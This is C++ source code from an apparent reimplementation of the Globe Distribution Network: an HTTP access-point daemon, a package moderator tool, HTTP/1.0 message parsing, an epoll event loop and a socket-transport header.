    ++stats_.errors;
    Reply(client, http::MakeErrorResponse(400, "Bad Request", "bad URL encoding"));
    return;
  }
  const std::string& path = *decoded;

  if (path == "/" || path.empty()) {
    ServeFrontPage(client);
    return;
  }
  if (path == "/search") {
    // q=... is the only recognized parameter.
    std::string query = request.Query();
    if (StartsWith(query, "q=")) {
      auto decoded_query = http::UrlDecode(query.substr(2));
      if (decoded_query.ok()) {
        ServeSearch(*decoded_query, client);
        return;
      }
    }
    ++stats_.errors;
    Reply(client, http::MakeErrorResponse(400, "Bad Request", "use /search?q=terms"));
    return;
  }
  if (!StartsWith(path, kPackagesPrefix)) {
    ++stats_.errors;
    Reply(client, http::MakeErrorResponse(404, "Not Found", "unknown path " + path));
    return;
  }

  std::string rest = path.substr(sizeof(kPackagesPrefix) - 1);
  size_t files_pos = rest.find(kFilesSeparator);
  if (files_pos == std::string::npos) {
    ServeListing(rest, client);
  } else {
    std::string globe_name = rest.substr(0, files_pos);
    std::string file_path = rest.substr(files_pos + sizeof(kFilesSeparator) - 1);
    ServeFile(globe_name, file_path, client);
  }
}

void GdnHttpd::ServeFrontPage(const sim::Endpoint& client) {
  std::string html =
      "<html><head><title>Globe Distribution Network</title></head><body>"
      "<h1>Globe Distribution Network</h1>"
      "<p>This GDN-enabled HTTPD is your access point to the GDN. Request "
      "/packages/&lt;package name&gt; for a package listing.</p>";
  html += "<p>Currently bound package DSOs on this access point: " +
          std::to_string(bound_.size()) + "</p></body></html>\n";
  http::HttpResponse response;
  response.SetHtml(std::move(html));
  Reply(client, response);
}

void GdnHttpd::WithPackage(const std::string& globe_name, UseProxy use) {
  auto it = bound_.find(globe_name);
  if (it != bound_.end()) {
    ++stats_.bind_reuses;
    use(it->second.get());
    return;
  }

  dso::BindOptions options;
  if (options_.bind_as_replica) {
    options.as_replica = gls::ReplicaRole::kCache;  // adjusted per protocol below
    options.semantics_type = kPackageTypeId;
    options.register_in_gls = options_.register_replicas_in_gls;
  }

  ++stats_.binds;
  runtime_.BindByName(
      globe_name, options,
      [this, globe_name, use = std::move(use)](
          Result<std::unique_ptr<dso::BoundObject>> bound) mutable {
        if (!bound.ok()) {
          use(bound.status());
          return;
        }
        auto proxy = std::make_unique<PackageProxy>(std::move(*bound));
        PackageProxy* raw = proxy.get();
        bound_[globe_name] = std::move(proxy);
        use(raw);
      });
}

void GdnHttpd::DropBinding(const std::string& globe_name,
                           std::function<void()> done) {
  auto it = bound_.find(globe_name);
  if (it == bound_.end()) {
    if (done) done();
    return;
  }
  auto pending =
      std::make_shared<std::unique_ptr<dso::BoundObject>>(it->second->TakeBound());
  bound_.erase(it);
  if (*pending == nullptr) {
    if (done) done();
    return;
  }
  transport_->clock()->ScheduleAfter(0, [this, pending, done = std::move(done)] {
    runtime_.Unbind(std::move(*pending), [done = std::move(done)](Status s) {
      if (!s.ok()) {
        GLOG_WARN << "stale binding teardown failed: " << s;
      }
      if (done) done();
    });
  });
}

void GdnHttpd::ServeListing(const std::string& globe_name, const sim::Endpoint& client,
                            bool retried) {
  WithPackage(globe_name, [this, globe_name, client,
                           retried](Result<PackageProxy*> proxy) {
    if (!proxy.ok()) {
      ++stats_.errors;
      int code = proxy.status().code() == StatusCode::kNotFound ? 404 : 502;
      Reply(client, http::MakeErrorResponse(code, std::string(http::ReasonPhrase(code)),
                                            proxy.status().ToString()));
      return;
    }
    (*proxy)->ListContents([this, globe_name, client,
                            retried](Result<std::vector<FileInfo>> files) {
      if (!files.ok()) {
        if (!retried) {
          // The bound representative may be a stale incarnation (its object
          // migrated protocols, or its master moved): drop it, rebind through
          // the GLS, and retry this request once.
          ++stats_.rebinds;
          DropBinding(globe_name, [this, globe_name, client] {
            ServeListing(globe_name, client, /*retried=*/true);
          });
          return;
        }
        ++stats_.errors;
        Reply(client,
              http::MakeErrorResponse(502, "Bad Gateway", files.status().ToString()));
        return;
      }
      std::string html = "<html><head><title>" + HtmlEscape(globe_name) +
                         "</title></head><body><h1>Package " + HtmlEscape(globe_name) +
                         "</h1><table border=1><tr><th>File</th><th>Size</th>"
                         "<th>SHA-256</th></tr>";
      for (const FileInfo& file : *files) {
        std::string href =
            http::UrlEncode(std::string(kPackagesPrefix) + globe_name + kFilesSeparator +
                            file.path);
        html += "<tr><td><a href=\"" + href + "\">" + HtmlEscape(file.path) +
                "</a></td><td>" +
                std::to_string(file.size) + "</td><td><code>" + file.sha256_hex +
                "</code></td></tr>";
      }
      html += "</table></body></html>\n";
      ++stats_.listings_served;
      http::HttpResponse response;
      response.SetHtml(std::move(html));
      Reply(client, response);
    });
  });
}

void GdnHttpd::ServeFile(const std::string& globe_name, const std::string& file_path,
                         const sim::Endpoint& client, bool retried) {
  WithPackage(globe_name, [this, globe_name, file_path, client,
                           retried](Result<PackageProxy*> proxy) {
    if (!proxy.ok()) {
      ++stats_.errors;
      int code = proxy.status().code() == StatusCode::kNotFound ? 404 : 502;
      Reply(client, http::MakeErrorResponse(code, std::string(http::ReasonPhrase(code)),
                                            proxy.status().ToString()));
      return;
    }
    (*proxy)->GetFileContents(file_path, [this, globe_name, file_path, client,
                                          retried](Result<Bytes> content) {
      if (!content.ok()) {
        // NotFound is an answer (the file is not in the package); anything
        // else smells like a stale binding — rebind and retry once.
        if (!retried && content.status().code() != StatusCode::kNotFound) {
          ++stats_.rebinds;
          DropBinding(globe_name, [this, globe_name, file_path, client] {
            ServeFile(globe_name, file_path, client, /*retried=*/true);
          });
          return;
        }
        ++stats_.errors;
        int code = content.status().code() == StatusCode::kNotFound ? 404 : 502;
        Reply(client, http::MakeErrorResponse(code, std::string(http::ReasonPhrase(code)),
                                              content.status().ToString()));
        return;
      }
      ++stats_.files_served;
      stats_.bytes_served += content->size();
      http::HttpResponse response;
      response.SetBody(std::move(*content), "application/octet-stream");
      Reply(client, response);
    });
  });
}

void GdnHttpd::ServeSearch(const std::string& query, const sim::Endpoint& client) {
  if (search_oid_.IsNil()) {
    ++stats_.errors;
    Reply(client, http::MakeErrorResponse(503, "Service Unavailable",
                                          "no search index configured"));
    return;
  }
  auto run_search = [this, query, client] {
    search_proxy_->Search(query, [this, query,
                                  client](Result<std::vector<SearchMatch>> r) {
      if (!r.ok()) {
        ++stats_.errors;
        Reply(client, http::MakeErrorResponse(502, "Bad Gateway", r.status().ToString()));
        return;
      }
      std::string html =
          "<html><head><title>GDN search</title></head><body><h1>Search: " +
                         HtmlEscape(query) + "</h1><ul>";
      for (const SearchMatch& match : *r) {
        html += "<li><a href=\"" +
                http::UrlEncode(std::string(kPackagesPrefix) + match.globe_name) + "\">" +
                HtmlEscape(match.globe_name) + "</a> &mdash; " +
                HtmlEscape(match.description) + "</li>";
      }
      html += "</ul><p>" + std::to_string(r->size()) + " match(es)</p></body></html>\n";
      http::HttpResponse response;
      response.SetHtml(std::move(html));
      Reply(client, response);
    });
  };

  if (search_proxy_ != nullptr) {
    run_search();
    return;
  }
  ++stats_.binds;
  runtime_.Bind(search_oid_, {},
                [this, run_search](Result<std::unique_ptr<dso::BoundObject>> bound) {
                  if (!bound.ok()) {
                    return;  // next request retries the bind
                  }
                  search_proxy_ = std::make_unique<SearchProxy>(std::move(*bound));
                  run_search();
                });
}

Browser::Browser(sim::Transport* transport, sim::NodeId node)
    : transport_(transport), node_(node), alive_(std::make_shared<bool>(true)) {}

void Browser::Fetch(sim::NodeId httpd_node, std::string_view target, FetchCallback done,
                    sim::SimTime timeout) {
  uint16_t port = sim::AllocateEphemeralPort();
  http::HttpRequest request;
  request.method = "GET";
  request.target = std::string(target);
  request.headers["host"] = "node" + std::to_string(httpd_node);
  request.headers["user-agent"] = "globe-browser/1.0";

  // One ephemeral port per request (HTTP/1.0 style); torn down on completion. The
  // timeout event is erased the moment the response lands, so a drained simulator
  // pays the page's round-trip time, never the timeout.
  auto shared_done = std::make_shared<FetchCallback>(std::move(done));
  auto finished = std::make_shared<bool>(false);
  auto timeout_event = std::make_shared<sim::Clock::TimerId>(sim::Clock::kNoTimer);
  auto finish = [this, port, shared_done, finished,
                 timeout_event](Result<http::HttpResponse> result) {
    if (*finished) {
      return;
    }
    *finished = true;
    transport_->clock()->CancelTimer(*timeout_event);
    transport_->UnregisterPort(node_, port);
    (*shared_done)(std::move(result));
  };

  transport_->RegisterPort(node_, port,
                           [finish](const sim::TransportDelivery& delivery) {
                             if (delivery.transport_error) {
                               finish(Unavailable("connection to httpd lost"));
                               return;
                             }
                             finish(http::HttpResponse::Parse(delivery.payload));
                           });
  transport_->Send({node_, port}, {httpd_node, sim::kPortHttp}, request.Serialize());
  *timeout_event = transport_->clock()->ScheduleAfter(
      timeout, [finish, alive = std::weak_ptr<bool>(alive_)] {
        if (alive.lock()) {
          finish(Unavailable("HTTP request timed out"));
        }
      });
}

}  // namespace globe::gdn
