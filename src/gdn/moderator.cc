#include "src/gdn/moderator.h"

#include "src/gos/object_server.h"
#include "src/util/log.h"

namespace globe::gdn {

ModeratorTool::ModeratorTool(sim::Transport* transport, sim::NodeId node,
                             std::string zone, sim::Endpoint naming_authority,
                             sim::Endpoint resolver,
                             gls::DirectoryRef leaf_directory,
                             const dso::ImplementationRepository* repository)
    : rpc_(std::make_unique<sim::Channel>(transport, node)),
      gns_(transport, node, std::move(zone), naming_authority, resolver),
      runtime_(transport, node, std::move(leaf_directory), repository, &gns_) {}

void ModeratorTool::CreatePackage(std::string globe_name, ReplicationScenario scenario,
                                  OidCallback done) {
  if (catalog_.count(globe_name) > 0) {
    done(AlreadyExists("package already in this moderator's catalog: " + globe_name));
    return;
  }
  // Step 2: "create first replica" at one GOS of the scenario.
  gos::CreateFirstReplicaRequest request{scenario.protocol, kPackageTypeId,
                                         scenario.maintainers};
  gos::kGosCreateFirstReplica.Call(
      rpc_.get(), scenario.first_gos, request,
      [this, globe_name = std::move(globe_name), scenario = std::move(scenario),
       done = std::move(done)](Result<gos::CreateFirstReplicaResponse> result) mutable {
        if (!result.ok()) {
          ++stats_.failures;
          done(result.status());
          return;
        }
        CreateSecondaries(result->oid, std::move(scenario), std::move(globe_name),
                          std::move(done));
      },
      sim::WriteCallOptions());
}

void ModeratorTool::CreateSecondaries(const gls::ObjectId& oid,
                                      ReplicationScenario scenario,
                                      std::string globe_name, OidCallback done) {
  if (scenario.replica_goses.empty()) {
    catalog_[globe_name] = CatalogEntry{oid, std::move(scenario)};
    RegisterName(oid, globe_name, std::move(done));
    return;
  }
  // Step 3: "bind to DSO <OID>, create replica" at each remaining GOS, sequentially —
  // secondary creation needs the master's GLS registration visible, and ordering
  // keeps the tool's behaviour deterministic.
  auto remaining =
      std::make_shared<std::vector<sim::Endpoint>>(scenario.replica_goses);
  auto next = std::make_shared<std::function<void(size_t)>>();
  auto self = this;
  // The stored step function holds only a weak reference to itself (a strong
  // one would be a shared_ptr cycle that never frees); each in-flight RPC
  // callback owns the strong reference that keeps the chain alive.
  *next = [self, oid, remaining,
           next_weak = std::weak_ptr<std::function<void(size_t)>>(next),
           scenario = std::move(scenario), globe_name = std::move(globe_name),
           done = std::move(done)](size_t index) mutable {
    if (index >= remaining->size()) {
      self->catalog_[globe_name] = CatalogEntry{oid, std::move(scenario)};
      self->RegisterName(oid, globe_name, std::move(done));
      return;
    }
    gos::CreateReplicaRequest request{oid, kPackageTypeId, scenario.secondary_role,
                                      scenario.maintainers};
    auto next = next_weak.lock();  // always alive: our caller holds a strong ref
    gos::kGosCreateReplica.Call(
        self->rpc_.get(), (*remaining)[index], request,
        [next, index, self](Result<gos::CreateReplicaResponse> result) {
          if (!result.ok()) {
            GLOG_WARN << "create replica failed: " << result.status();
            ++self->stats_.failures;
          }
          (*next)(index + 1);
        },
        sim::WriteCallOptions());
  };
  (*next)(0);
}

void ModeratorTool::RegisterName(const gls::ObjectId& oid, const std::string& globe_name,
                                 OidCallback done) {
  // Step 4: register the symbolic name with the GNS Naming Authority.
  gns_.AddName(globe_name, oid.ToHex(),
               [this, oid, done = std::move(done)](Status status) {
    if (!status.ok()) {
      ++stats_.failures;
      done(status);
      return;
    }
    ++stats_.packages_created;
    done(oid);
  });
}

void ModeratorTool::OpenPackage(std::string_view globe_name, ProxyCallback done) {
  auto it = catalog_.find(globe_name);
  if (it != catalog_.end()) {
    // Skip the GNS round trip for our own packages.
    runtime_.Bind(it->second.oid, {},
                  [done = std::move(done)](
                      Result<std::unique_ptr<dso::BoundObject>> bound) {
                    if (!bound.ok()) {
                      done(bound.status());
                      return;
                    }
                    done(std::make_unique<PackageProxy>(std::move(*bound)));
                  });
    return;
  }
  runtime_.BindByName(globe_name, {},
                      [done = std::move(done)](
                          Result<std::unique_ptr<dso::BoundObject>> bound) {
                        if (!bound.ok()) {
                          done(bound.status());
                          return;
                        }
                        done(std::make_unique<PackageProxy>(std::move(*bound)));
                      });
}

void ModeratorTool::AddFile(std::string_view globe_name, std::string_view path,
                            Bytes content, DoneCallback done) {
  OpenPackage(globe_name, [this, path = std::string(path), content = std::move(content),
                           done = std::move(done)](
                              Result<std::unique_ptr<PackageProxy>> proxy) mutable {
    if (!proxy.ok()) {
      ++stats_.failures;
      done(proxy.status());
      return;
    }
    auto shared_proxy = std::shared_ptr<PackageProxy>(std::move(*proxy));
    shared_proxy->AddFile(path, content,
                          [this, shared_proxy, done = std::move(done)](Status status) {
                            if (status.ok()) {
                              ++stats_.files_added;
                            } else {
                              ++stats_.failures;
                            }
                            done(status);
                          });
  });
}

void ModeratorTool::SetDescription(std::string_view globe_name, std::string_view text,
                                   DoneCallback done) {
  OpenPackage(globe_name, [this, text = std::string(text), done = std::move(done)](
                              Result<std::unique_ptr<PackageProxy>> proxy) mutable {
    if (!proxy.ok()) {
      ++stats_.failures;
      done(proxy.status());
      return;
    }
    auto shared_proxy = std::shared_ptr<PackageProxy>(std::move(*proxy));
    shared_proxy->SetDescription(text,
                                 [shared_proxy, done = std::move(done)](Status status) {
                                   done(status);
                                 });
  });
}

void ModeratorTool::RemovePackage(std::string_view globe_name, DoneCallback done) {
  auto it = catalog_.find(globe_name);
  if (it == catalog_.end()) {
    done(NotFound("package not in this moderator's catalog: " + std::string(globe_name)));
    return;
  }
  gls::ObjectId oid = it->second.oid;
  std::vector<sim::Endpoint> goses = it->second.scenario.replica_goses;
  goses.push_back(it->second.scenario.first_gos);
  std::string name(globe_name);
  catalog_.erase(it);

  // Remove replicas in reverse creation order (secondaries first, master last), then
  // drop the name.
  auto next = std::make_shared<std::function<void(size_t)>>();
  auto self = this;
  // Weak self-reference, as in CreateSecondaries: the in-flight RPC callback
  // carries the strong one.
  *next = [self, oid, goses = std::move(goses), name = std::move(name),
           next_weak = std::weak_ptr<std::function<void(size_t)>>(next),
           done = std::move(done)](size_t index) mutable {
    if (index >= goses.size()) {
      self->gns_.RemoveName(name, [self, done = std::move(done)](Status status) {
        if (status.ok()) {
          ++self->stats_.packages_removed;
        } else {
          ++self->stats_.failures;
        }
        done(status);
      });
      return;
    }
    auto next = next_weak.lock();  // always alive: our caller holds a strong ref
    gos::kGosRemoveReplica.Call(
        self->rpc_.get(), goses[index], gos::RemoveReplicaRequest{oid},
        [self, next, index](Result<sim::EmptyMessage> result) {
          if (!result.ok()) {
            GLOG_WARN << "remove replica failed: " << result.status();
            ++self->stats_.failures;
          }
          (*next)(index + 1);
        },
        sim::WriteCallOptions());
  };
  (*next)(0);
}

}  // namespace globe::gdn
