// Minimal HTTP/1.0 message handling.
//
// The GDN is "accessible through standard Web browsers" (paper §4): GDN-enabled
// HTTPDs parse real HTTP request text off the wire, extract the package object name
// embedded in the URL, and answer with HTML or file bytes. This module supplies the
// message parsing/formatting; the GDN-HTTPD itself lives in src/gdn/httpd.h.

#ifndef SRC_HTTP_HTTP_H_
#define SRC_HTTP_HTTP_H_

#include <map>
#include <string>

#include "src/util/bytes.h"
#include "src/util/status.h"

namespace globe::http {

// Header names are case-insensitive; stored lowercased.
using HeaderMap = std::map<std::string, std::string>;

struct HttpRequest {
  std::string method = "GET";
  std::string target = "/";  // request-target (path + optional query)
  std::string version = "HTTP/1.0";
  HeaderMap headers;
  Bytes body;

  // Path without the query string, and the query string (no '?').
  std::string Path() const;
  std::string Query() const;

  Bytes Serialize() const;
  static Result<HttpRequest> Parse(ByteSpan data);
};

struct HttpResponse {
  int status_code = 200;
  std::string reason = "OK";
  std::string version = "HTTP/1.0";
  HeaderMap headers;
  Bytes body;

  // Sets Content-Length and Content-Type and fills the body.
  void SetBody(Bytes bytes, std::string content_type);
  void SetHtml(std::string html);

  Bytes Serialize() const;
  static Result<HttpResponse> Parse(ByteSpan data);
};

HttpResponse MakeErrorResponse(int status_code, const std::string& reason,
                               const std::string& detail);

// Percent-decodes a URL path component; rejects malformed escapes.
Result<std::string> UrlDecode(std::string_view s);
std::string UrlEncode(std::string_view s);

std::string_view ReasonPhrase(int status_code);

}  // namespace globe::http

#endif  // SRC_HTTP_HTTP_H_
