#include "src/http/http.h"

#include <cstdio>

#include "src/util/strings.h"

namespace globe::http {

namespace {

constexpr size_t kMaxHeaderBytes = 64 * 1024;
constexpr size_t kMaxHeaders = 100;

// Splits raw bytes into (head lines, body) at the first blank line.
struct SplitMessage {
  std::vector<std::string> lines;
  Bytes body;
};

Result<SplitMessage> SplitHead(ByteSpan data) {
  std::string_view text(reinterpret_cast<const char*>(data.data()), data.size());
  size_t head_end = text.find("\r\n\r\n");
  size_t body_start;
  if (head_end == std::string_view::npos) {
    // Tolerate bare-LF framing.
    head_end = text.find("\n\n");
    if (head_end == std::string_view::npos) {
      return InvalidArgument("HTTP message has no header terminator");
    }
    body_start = head_end + 2;
  } else {
    body_start = head_end + 4;
  }
  if (head_end > kMaxHeaderBytes) {
    return InvalidArgument("HTTP header section too large");
  }
  SplitMessage out;
  for (std::string& line : Split(text.substr(0, head_end), '\n')) {
    while (!line.empty() && line.back() == '\r') {
      line.pop_back();
    }
    out.lines.push_back(std::move(line));
  }
  if (out.lines.size() > kMaxHeaders + 1) {
    return InvalidArgument("too many HTTP headers");
  }
  out.body = Bytes(data.begin() + body_start, data.end());
  return out;
}

Result<HeaderMap> ParseHeaders(const std::vector<std::string>& lines, size_t first) {
  HeaderMap headers;
  for (size_t i = first; i < lines.size(); ++i) {
    const std::string& line = lines[i];
    if (line.empty()) {
      continue;
    }
    size_t colon = line.find(':');
    if (colon == std::string::npos) {
      return InvalidArgument("malformed HTTP header line: " + line);
    }
    std::string name = AsciiToLower(TrimWhitespace(line.substr(0, colon)));
    std::string value(TrimWhitespace(std::string_view(line).substr(colon + 1)));
    headers[name] = value;
  }
  return headers;
}

void AppendHeaders(const HeaderMap& headers, std::string* out) {
  for (const auto& [name, value] : headers) {
    *out += name;
    *out += ": ";
    *out += value;
    *out += "\r\n";
  }
  *out += "\r\n";
}

}  // namespace

std::string HttpRequest::Path() const {
  size_t q = target.find('?');
  return q == std::string::npos ? target : target.substr(0, q);
}

std::string HttpRequest::Query() const {
  size_t q = target.find('?');
  return q == std::string::npos ? "" : target.substr(q + 1);
}

Bytes HttpRequest::Serialize() const {
  std::string head = method + " " + target + " " + version + "\r\n";
  HeaderMap all = headers;
  if (!body.empty() && all.count("content-length") == 0) {
    all["content-length"] = std::to_string(body.size());
  }
  AppendHeaders(all, &head);
  Bytes out = ToBytes(head);
  out.insert(out.end(), body.begin(), body.end());
  return out;
}

Result<HttpRequest> HttpRequest::Parse(ByteSpan data) {
  ASSIGN_OR_RETURN(SplitMessage split, SplitHead(data));
  if (split.lines.empty()) {
    return InvalidArgument("empty HTTP request");
  }
  std::vector<std::string> parts = SplitSkipEmpty(split.lines[0], ' ');
  if (parts.size() != 3) {
    return InvalidArgument("malformed HTTP request line: " + split.lines[0]);
  }
  HttpRequest request;
  request.method = parts[0];
  request.target = parts[1];
  request.version = parts[2];
  ASSIGN_OR_RETURN(request.headers, ParseHeaders(split.lines, 1));
  request.body = std::move(split.body);
  return request;
}

void HttpResponse::SetBody(Bytes bytes, std::string content_type) {
  body = std::move(bytes);
  headers["content-length"] = std::to_string(body.size());
  headers["content-type"] = std::move(content_type);
}

void HttpResponse::SetHtml(std::string html) {
  SetBody(ToBytes(html), "text/html");
}

Bytes HttpResponse::Serialize() const {
  std::string head = version + " " + std::to_string(status_code) + " " + reason + "\r\n";
  AppendHeaders(headers, &head);
  Bytes out = ToBytes(head);
  out.insert(out.end(), body.begin(), body.end());
  return out;
}

Result<HttpResponse> HttpResponse::Parse(ByteSpan data) {
  ASSIGN_OR_RETURN(SplitMessage split, SplitHead(data));
  if (split.lines.empty()) {
    return InvalidArgument("empty HTTP response");
  }
  const std::string& status_line = split.lines[0];
  std::vector<std::string> parts = SplitSkipEmpty(status_line, ' ');
  if (parts.size() < 2) {
    return InvalidArgument("malformed HTTP status line: " + status_line);
  }
  HttpResponse response;
  response.version = parts[0];
  response.status_code = std::atoi(parts[1].c_str());
  if (response.status_code < 100 || response.status_code > 599) {
    return InvalidArgument("implausible HTTP status code in: " + status_line);
  }
  response.reason = parts.size() > 2 ? parts[2] : "";
  for (size_t i = 3; i < parts.size(); ++i) {
    response.reason += " " + parts[i];
  }
  ASSIGN_OR_RETURN(response.headers, ParseHeaders(split.lines, 1));
  response.body = std::move(split.body);
  return response;
}

HttpResponse MakeErrorResponse(int status_code, const std::string& reason,
                               const std::string& detail) {
  HttpResponse response;
  response.status_code = status_code;
  response.reason = reason;
  response.SetHtml("<html><head><title>" + std::to_string(status_code) + " " + reason +
                   "</title></head><body><h1>" + reason + "</h1><p>" + detail +
                   "</p></body></html>\n");
  return response;
}

Result<std::string> UrlDecode(std::string_view s) {
  std::string out;
  out.reserve(s.size());
  for (size_t i = 0; i < s.size(); ++i) {
    if (s[i] == '%') {
      if (i + 2 >= s.size()) {
        return InvalidArgument("truncated percent escape");
      }
      Bytes byte;
      if (!HexDecode(s.substr(i + 1, 2), &byte)) {
        return InvalidArgument("bad percent escape");
      }
      out.push_back(static_cast<char>(byte[0]));
      i += 2;
    } else if (s[i] == '+') {
      out.push_back(' ');
    } else {
      out.push_back(s[i]);
    }
  }
  return out;
}

std::string UrlEncode(std::string_view s) {
  std::string out;
  for (char c : s) {
    bool unreserved = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                      (c >= '0' && c <= '9') || c == '-' || c == '_' || c == '.' ||
                      c == '~' || c == '/';
    if (unreserved) {
      out.push_back(c);
    } else {
      char buf[4];
      std::snprintf(buf, sizeof(buf), "%%%02x", static_cast<unsigned char>(c));
      out += buf;
    }
  }
  return out;
}

std::string_view ReasonPhrase(int status_code) {
  switch (status_code) {
    case 200:
      return "OK";
    case 400:
      return "Bad Request";
    case 403:
      return "Forbidden";
    case 404:
      return "Not Found";
    case 500:
      return "Internal Server Error";
    case 502:
      return "Bad Gateway";
    case 503:
      return "Service Unavailable";
    default:
      return "Unknown";
  }
}

}  // namespace globe::http
