#include "src/net/event_loop.h"

#include <sys/epoll.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <cassert>

#include "src/util/log.h"

namespace globe::net {

namespace {

uint64_t MonotonicNanos() {
  timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return static_cast<uint64_t>(ts.tv_sec) * 1'000'000'000ULL +
         static_cast<uint64_t>(ts.tv_nsec);
}

}  // namespace

EventLoop::EventLoop() : start_ns_(MonotonicNanos()) {
  epoll_fd_ = epoll_create1(EPOLL_CLOEXEC);
  assert(epoll_fd_ >= 0);
}

EventLoop::~EventLoop() {
  if (epoll_fd_ >= 0) {
    close(epoll_fd_);
  }
}

sim::SimTime EventLoop::Now() const { return (MonotonicNanos() - start_ns_) / 1000; }

EventLoop::TimerId EventLoop::ScheduleAfter(sim::SimTime delay,
                                            std::function<void()> fn) {
  TimerId id = next_timer_id_++;
  sim::SimTime due = Now() + delay;
  timers_.emplace(id, Timer{due, std::move(fn)});
  heap_.push(HeapEntry{due, id});
  return id;
}

bool EventLoop::CancelTimer(TimerId id) {
  // The heap entry stays behind and is skipped when popped.
  return timers_.erase(id) > 0;
}

sim::SimTime EventLoop::NextTimerDelay() {
  // Drop lazily-cancelled entries off the top so they never distort the wait.
  while (!heap_.empty() && timers_.find(heap_.top().id) == timers_.end()) {
    heap_.pop();
  }
  if (heap_.empty()) {
    return static_cast<sim::SimTime>(-1);
  }
  sim::SimTime due = heap_.top().due;
  sim::SimTime now = Now();
  return due > now ? due - now : 0;
}

void EventLoop::FireDueTimers() {
  sim::SimTime now = Now();
  // Only timers due at entry run in this pass: a callback that reschedules
  // itself with zero delay cannot starve the poll.
  std::vector<std::function<void()>> due;
  while (!heap_.empty() && heap_.top().due <= now) {
    HeapEntry top = heap_.top();
    heap_.pop();
    auto it = timers_.find(top.id);
    if (it == timers_.end()) {
      continue;  // cancelled
    }
    if (it->second.due != top.due) {
      continue;  // stale heap entry (id reused is impossible; defensive)
    }
    due.push_back(std::move(it->second.fn));
    timers_.erase(it);
  }
  for (auto& fn : due) {
    fn();
  }
}

void EventLoop::WatchFd(int fd, uint32_t events, FdHandler handler) {
  epoll_event ev{};
  ev.events = events;
  ev.data.fd = fd;
  bool existing = fd_handlers_.count(fd) > 0;
  fd_handlers_[fd] = std::make_shared<FdHandler>(std::move(handler));
  int rc = epoll_ctl(epoll_fd_, existing ? EPOLL_CTL_MOD : EPOLL_CTL_ADD, fd, &ev);
  if (rc != 0) {
    GLOG_WARN << "epoll_ctl add failed for fd " << fd;
  }
}

void EventLoop::ModifyFd(int fd, uint32_t events) {
  epoll_event ev{};
  ev.events = events;
  ev.data.fd = fd;
  if (epoll_ctl(epoll_fd_, EPOLL_CTL_MOD, fd, &ev) != 0) {
    GLOG_WARN << "epoll_ctl mod failed for fd " << fd;
  }
}

void EventLoop::UnwatchFd(int fd) {
  if (fd_handlers_.erase(fd) > 0) {
    epoll_ctl(epoll_fd_, EPOLL_CTL_DEL, fd, nullptr);
  }
}

void EventLoop::PollOnce(sim::SimTime max_wait_us) {
  FireDueTimers();

  sim::SimTime wait = std::min(max_wait_us, NextTimerDelay());
  // epoll granularity is milliseconds; round up so a 500 us wait does not
  // busy-spin, but never wait when something is already due.
  int timeout_ms =
      wait == 0 ? 0
                : static_cast<int>(std::min<sim::SimTime>((wait + 999) / 1000, 1000));

  epoll_event events[64];
  int n = epoll_wait(epoll_fd_, events, 64, timeout_ms);
  for (int i = 0; i < n; ++i) {
    auto it = fd_handlers_.find(events[i].data.fd);
    if (it == fd_handlers_.end()) {
      continue;  // unwatched by an earlier handler in this batch
    }
    // Pin: the handler may unwatch its own fd.
    std::shared_ptr<FdHandler> handler = it->second;
    (*handler)(events[i].events);
  }

  FireDueTimers();
}

bool EventLoop::RunUntil(const std::function<bool()>& pred, sim::SimTime timeout_us) {
  sim::SimTime deadline = Now() + timeout_us;
  while (!pred()) {
    sim::SimTime now = Now();
    if (now >= deadline || stopped_) {
      return pred();
    }
    PollOnce(deadline - now);
  }
  return true;
}

void EventLoop::RunFor(sim::SimTime duration_us) {
  sim::SimTime deadline = Now() + duration_us;
  while (Now() < deadline && !stopped_) {
    PollOnce(deadline - Now());
  }
}

void EventLoop::Run() {
  stopped_ = false;
  while (!stopped_) {
    PollOnce(100 * sim::kMillisecond);
  }
}

}  // namespace globe::net
