// sim::Transport over real non-blocking TCP sockets.
//
// The second backend behind the transport seam: the same Channel / RpcServer /
// TypedMethod stack that runs on the simulated network — at-most-once dedup,
// retries, deadlines included — runs unmodified over loopback (or LAN) TCP.
//
// Model:
//   - A transport hosts any number of logical nodes. Listen(node) opens one
//     TCP listener per hosted node; all of that node's service ports (GLS 700,
//     GOS 701, DNS 53, ...) are multiplexed over it and demultiplexed by the
//     frame header's destination endpoint.
//   - Frames are length-prefixed:
//       u32 frame length (header + payload, excluding this word)
//       u32 src node | u16 src port | u32 dst node | u16 dst port
//       payload bytes
//     A decoded length above sim::kMaxFrameBytes closes the connection — a
//     corrupt prefix must never trigger an unbounded allocation.
//   - Outbound connections are keyed by destination node and multiplex every
//     local source talking to it, mirroring how the kernel shares one TCP
//     connection per host pair. Ephemeral client endpoints never listen:
//     responses flow back over the connection that carried the request (the
//     receiver learns src endpoint -> connection as frames arrive).
//   - Explicit per-connection state machine: kConnecting -> kOpen -> kClosed.
//     Read and write buffers are reused across frames; payloads are delivered
//     as pinned views into the refcounted read buffer (zero copies, zero
//     steady-state allocation — see BufferPool), and a stashed view only costs
//     one buffer swap at the next read.
//   - Peer loss (connect refused, reset, EOF) is surfaced as a
//     TransportDelivery with transport_error=true to every local endpoint that
//     had traffic towards that peer, so RPC retries engage immediately instead
//     of waiting out deadlines.
//   - ListenHttp(node) opens a *raw HTTP* listener mapped to (node, port 80):
//     inbound bytes are parsed as HTTP/1.0 requests and delivered to the
//     registered port-80 handler (gdn::GdnHttpd) with a synthesized client
//     endpoint; Send() towards that endpoint writes the raw response and
//     closes, so a plain `curl` can download a package from a running node.
//
// Single-threaded: all methods must be called from the EventLoop's thread.

#ifndef SRC_NET_SOCKET_TRANSPORT_H_
#define SRC_NET_SOCKET_TRANSPORT_H_

#include <cstdint>
#include <map>
#include <memory>
#include <set>
#include <string>
#include <utility>
#include <vector>

#include "src/net/event_loop.h"
#include "src/sim/transport.h"
#include "src/util/status.h"

namespace globe::net {

// Synthesized source node for raw-HTTP clients (browsers, curl). Reserved:
// never a hosted node.
constexpr sim::NodeId kHttpClientNode = 0xFFFFFF00;

struct WireStats {
  uint64_t frames_sent = 0;
  uint64_t frames_received = 0;
  uint64_t bytes_sent = 0;      // on-the-wire bytes, length prefixes included
  uint64_t bytes_received = 0;
  uint64_t connections_opened = 0;    // outbound connects initiated
  uint64_t connections_accepted = 0;  // inbound accepts (frame + http)
  uint64_t disconnects = 0;           // peer loss on established/able connections
  uint64_t oversized_rejected = 0;    // sends refused or decodes aborted
